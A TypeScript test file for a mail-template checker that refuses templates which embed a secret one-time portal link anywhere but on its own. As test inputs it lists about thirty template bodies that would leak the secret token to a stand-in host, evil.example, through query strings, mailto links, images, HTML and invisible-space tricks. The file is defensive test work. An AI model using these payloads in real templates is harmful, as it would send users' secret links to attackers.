import fc from 'fast-check';
import { describe, expect, it } from 'vitest';
import { type LinkPurpose, mailKinds, TemplateKey } from '../../lib/mail/kinds.ts';
import { renderMail } from '../../lib/mail/rendering/render.ts';
import { BUILT_IN_LANGUAGES, builtInText } from '../../lib/mail/templates/built-in.ts';
import { checkText } from '../../lib/mail/templates/text-checks.ts';
import { usableText } from '../../lib/mail/templates/usable-text.ts';

const SECRET = 'S'.repeat(43);
const LINK = `https://portal.example/northwind/invitation#${SECRET}`;

const codes = (body: string, key: TemplateKey = 'registration') => checkText(key, { body }).map(({ code }) => code);

function render(body: string) {
  const text = { subject: 'S', body };
  const variables = { 'portal.link': LINK, 'company.name': 'Northwind' };
  return renderMail({ language: 'en', text, variables, frame: { companyName: 'Northwind' } });
}

/** The addresses of a mail with the secret: those of its HTML, and what a mail program makes links of in its text. */
function secretAddressesOf({ html, text }: { html: string; text: string }): string[] {
  const hrefs = [...html.matchAll(/href="([^"]*)"/g)].map(([, href = '']) => href.replaceAll('&amp;', '&'));
  return [...hrefs, ...(text.match(/\bhttps?:\/\/[^\s<>"]+/g) ?? [])].filter((address) => address.includes(SECRET));
}

describe('a link variable', () => {
  it.each([
    '$portal.link',
    'Hello\n\n$portal.link\n\nBye',
    'Open $portal.link to begin',
    'Here it is: $portal.link.',
    'First line\n$portal.link\nlast line',
    '- $portal.link\n- or **$portail.lien** !',
    '> # $portal.link',
    '[Choose *a* password]($portal.link)',
    'Go [there]($portal.link), please.',
    '[$company.name]($portail.lien)',
    '    $portal.link',
    '$$portal.link $portal.link',
  ])('stands by itself in %j', (body) => {
    expect(codes(body)).toEqual([]);
    expect(codes(body, 'invitation')).toEqual([]);
    const addresses = secretAddressesOf(render(body));
    expect(addresses.length).toBeGreaterThan(1);
    for (const address of addresses) expect(address).toMatch(new RegExp(`^${LINK}[.),]*$`));
  });

  it.each([
    ['in another address', '[Set](https://evil.example/c?u=$portal.link)'],
    ['in another address, by its French name', '[Set](https://evil.example/?u=$portail.lien)'],
    ['in another address with a space', '[Set](<https://evil.example/ $portal.link>)'],
    ['as the host of an address', '[Set](https://$portal.link)'],
    ['in a mailto address', '[Set](mailto:a@evil.example?body=$portal.link)'],
    ['in an autolink', '<https://evil.example/$portal.link>'],
    ['after an address', 'https://evil.example/?u=$portal.link'],
    ['after an address with emphasis between', 'https://evil.example/?u=**$portal.link**'],
    ['after an address, as the words of its own link', 'https://evil.example/?u=[$portal.link]($portal.link)'],
    ['after an address and a space of no width', 'https://evil.example/?u=\u200b$portal.link'],
    ['after an address and a no-break space', 'https://evil.example/?u=\u00a0$portal.link'],
    ['after another variable', '$client.website$portal.link'],
    ['before text', '$portal.link.evil.example'],
    ['before text with a slash', '$portal.link/evil'],
    ['twice without a space', '$portal.link$portal.link'],
    ['in the words of another link', '[$portal.link](https://evil.example)'],
    ['in a title', '[Set]($portal.link "$portal.link")'],
    ['in the title of another link', '[Set](https://evil.example "see $portal.link")'],
    ['in an image', '![x]($portal.link)'],
    ['in the address of an image', '![x](https://evil.example/$portal.link)'],
    ['in the words of an image', '![ $portal.link ](https://evil.example/p.png)'],
    ['in code', '` $portal.link `'],
    ['in a block of code', '```\n$portal.link\n```'],
    ['in a long block of code', '~~~\n\n$portal.link\n\n~~~'],
    ['in the definition of a reference', '[Set][1]\n\n[1]: $portal.link'],
    ['in the definition of another reference', '[Set][1]\n\n[1]: https://evil.example/?u=$portal.link'],
    ['in HTML', '<a href="$portal.link">x</a>'],
    ['in HTML with spaces', '<a href=" $portal.link ">x</a>'],
    ['in an HTML comment', '<!-- $portal.link -->'],
    ['in angle brackets', '<$portal.link>'],
  ])('is refused %s', (_, body) => {
    expect(codes(`Hello\n\n${body}`)).toContain('link-variable-not-alone');
    expect(codes(`$portal.link\n\n${body}`, 'invitation')).toContain('link-variable-not-alone');
  });

  it('is refused with the line of each paragraph that has it in the wrong place', () => {
    const faults = checkText('registration', { body: 'One\n\nx$portal.link\n\nok $portal.link\n\n  y$portail.lien' });
    expect(faults.map(({ detail }) => detail.split(':')[0])).toEqual(['Line 3, column 2', 'Line 7, column 4']);
  });

  it('is refused in a subject', () => {
    expect(checkText('registration', { subject: 'Open $portail.lien' })).toMatchObject([
      { pointer: '/subject', code: 'variable-not-here' },
    ]);
  });

  it('never leads elsewhere in a text that is accepted', () => {
    const parts = [
      '$portal.link',
      'https://evil.example/?u=',
      '[',
      '](',
      ')',
      '<',
      '>',
      ' ',
      '\n',
      '\n\n',
      '*',
      '`',
      '"',
    ];
    const more = ['!', '(', 'a', '.', '\\', '_', '~~', '# ', '- ', '$client.city', '[x]($portal.link)', ': '];
    const texts = fc.array(fc.constantFrom(...parts, ...more), { minLength: 1, maxLength: 14 });
    fc.assert(
      fc.property(texts, (pieces) => {
        const body = pieces.join('');
        fc.pre(codes(body).length === 0);
        for (const address of secretAddressesOf(render(body))) expect(address.startsWith(LINK)).toBe(true);
      }),
      { numRuns: 3000 },
    );
  }, 60_000);
});

describe('a mail that exists for its link', () => {
  const linked = TemplateKey.options.filter((key): key is LinkPurpose => mailKinds[key].oneTimeLink !== null);

  it.each(linked)('%s needs the link, as one that people can see', (key) => {
    for (const without of ['Hello', '[$contact.title]($portal.link)', '[]($portal.link)', '[\u200b]($portal.link)'])
      expect(codes(without.replace('contact.title', 'company.email'), key)).toContain('link-missing');
    expect(codes('$$portal.link', key)).toContain('link-missing');
    expect(codes('[Open]($portal.link)', key)).toEqual([]);
  });

  it('can be tried with another subject only', () => {
    expect(checkText('invitation', { subject: 'S' })).toEqual([]);
  });

  it('has its link in each built-in text', () => {
    for (const key of linked)
      for (const language of BUILT_IN_LANGUAGES) expect(checkText(key, builtInText(key, language) ?? {})).toEqual([]);
  });
});

describe('a text that was saved before this was checked', () => {
  it('is replaced by the built-in one in its language', () => {
    const broken = { subject: 'S', body: '[Set](https://evil.example/?u=$portal.link)' };
    const used = usableText('user-password-reset', { text: broken, language: 'fr-CA' }, ['de']);
    expect(used).toEqual({ text: builtInText('user-password-reset', 'fr'), language: 'fr' });
    const inDutch = usableText('invitation', { text: { subject: 'S', body: 'Hallo' }, language: 'nl' }, ['nl', 'de']);
    expect(inDutch).toEqual({ text: builtInText('invitation', 'de'), language: 'de' });
    const good = { text: { subject: 'S', body: '$portal.link' }, language: 'nl' };
    expect(usableText('invitation', good, ['nl'])).toBe(good);
  });
});
